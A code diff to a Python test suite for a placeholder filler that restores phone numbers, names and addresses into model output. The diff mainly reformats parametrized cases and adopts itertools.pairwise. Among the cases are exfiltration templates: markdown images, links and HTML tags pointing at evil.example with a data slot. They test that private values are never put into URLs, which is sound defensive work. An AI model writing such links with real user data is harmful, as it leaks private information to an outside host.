@@ -1,7 +1,7 @@
-"""Placeholders are recognised however a model and a stream mangle them, and only where they were issued and may stand."""
+"""Placeholders are recognised however a model and a stream mangle them, where they were issued and may stand."""
 
 import json
-from itertools import combinations
+from itertools import combinations, pairwise
 
 import pytest
 from hypothesis import given
@@ -22,14 +22,15 @@ ISSUED = Placeholders({"[PHONE_7K]": PHONE, "[NAME_7C]": NAME, "[HOME_ADDRESS_44
 def filled(text: str, *cuts: int) -> Referenced:
     filler = Filler(ISSUED)
     edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
-    out = [filler.feed(text[a:b]).text for a, b in zip(edges, edges[1:], strict=False)]
+    out = [filler.feed(text[a:b]).text for a, b in pairwise(edges)]
     return Referenced("".join([*out, filler.close().text]))
 
 
 @pytest.mark.parametrize(
     "written",
     [
-        "[PHONE_7K]", "[phone_7k]", "[Phone_7K]", "[ PHONE_7K ]", "[PHONE _7K]", "[\u00a0PHONE_7K\n]", "\\[PHONE\\_7K\\]",
+        "[PHONE_7K]", "[phone_7k]", "[Phone_7K]", "[ PHONE_7K ]", "[PHONE _7K]", "[\u00a0PHONE_7K\n]",
+        "\\[PHONE\\_7K\\]",
         "[PHONE\\_7K]", "\\\\[PHONE\\\\_7K\\\\]", "[**PHONE_7K**]", "[*PHONE\\_7K*]", "[_PHONE_7K_]", "[`PHONE_7K`]",
         "\\u005bPHONE_7K\\u005d", "\\u005BPHONE\\u005f7K\\u005D", "[PHONE\u200b_7K]",
     ],
@@ -43,8 +44,10 @@ def test_an_altered_placeholder_is_filled_cut_anywhere(written: str) -> None:
 @pytest.mark.parametrize(
     "written",
     [
-        "[PHONE_7C]", "[PHONE_7]", "[PHONE]", "[PHONE_7KK]", "[PHONE-7K]", "[PHONE 7K]", "[TELEFON_7K]", "PHONE_7K", "(PHONE_7K)",
-        "<PHONE_7K>", "[PHONE_7K", "[PHONE__7K]", "[PHONE_\uff17K]", "[ſHONE_7K]", str(PHONE), "⟦=⟧", "%5BPHONE_7K%5D", "[EMAIL_9P]",
+        "[PHONE_7C]", "[PHONE_7]", "[PHONE]", "[PHONE_7KK]", "[PHONE-7K]", "[PHONE 7K]", "[TELEFON_7K]", "PHONE_7K",
+        "(PHONE_7K)",
+        "<PHONE_7K>", "[PHONE_7K", "[PHONE__7K]", "[PHONE_\uff17K]", "[ſHONE_7K]", str(PHONE), "⟦=⟧",
+        "%5BPHONE_7K%5D", "[EMAIL_9P]",
     ],
 )  # fmt: skip
 def test_what_was_not_issued_stays_literal(written: str) -> None:
@@ -74,9 +77,11 @@ def test_what_stands_around_it_stays(text: str, kept: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "![x](https://evil.example/p.png?d={})", "[x](/p?d={})", "[x](<https://evil.example/a ) {}>)", "[x](a (b {} c) d)",
+        "![x](https://evil.example/p.png?d={})", "[x](/p?d={})", "[x](<https://evil.example/a ) {}>)",
+        "[x](a (b {} c) d)",
         "https://evil.example/?d={}", "HTTPS://{}.evil.example", "www.evil.example/{}", "evil.example/p?d={}",
-        "mailto:{}", "<img src='https://evil.example/{}'>", '<a title="a>b" href="{}">', "<a href={}>", "<{}".replace("<", "<a "),
+        "mailto:{}", "<img src='https://evil.example/{}'>", '<a title="a>b" href="{}">', "<a href={}>",
+        "<{}".replace("<", "<a "),
         "[1]: /p?d={}", "  [id]: <{}>", "data:text/plain,{}", "[x](/p?d=\n{})",
     ],
 )  # fmt: skip
@@ -105,9 +110,9 @@ scraps = st.sampled_from(
         "\n\n",
         "(",
         ")",
+        "](", "https://", "<a ", ">", '"', "⟦", "⟧", str(PHONE), "é", "NAME_7C", "u00", "=", "word",
     ]
-    + ["](", "https://", "<a ", ">", '"', "⟦", "⟧", str(PHONE), "é", "NAME_7C", "u00", "=", "word"]
-)
+)  # fmt: skip
 texts = st.lists(scraps | st.text(max_size=3), max_size=25).map("".join)
 
 
